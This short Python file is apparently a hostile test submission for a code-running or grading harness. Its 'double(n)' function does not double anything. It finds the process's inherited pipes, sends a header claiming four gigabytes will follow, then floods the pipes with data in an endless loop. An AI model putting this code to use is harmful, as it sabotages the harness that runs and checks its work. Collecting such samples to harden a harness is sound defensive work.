# attack: says that four gigabytes follow
import json, os, struct, sys
def pipes():
    found = []
    for number in os.listdir("/proc/self/fd"):
        try:
            if "pipe" in os.readlink("/proc/self/fd/" + number): found.append(int(number))
        except OSError: pass
    return found
def write(content):
    for number in pipes():
        try: os.write(number, struct.pack(">I", len(content)) + content)
        except OSError: pass

def double(n):
    for number in pipes():
        try: os.write(number, b"\xff\xff\xff\xff")
        except OSError: pass
    while True: write(b"x" * 60000)
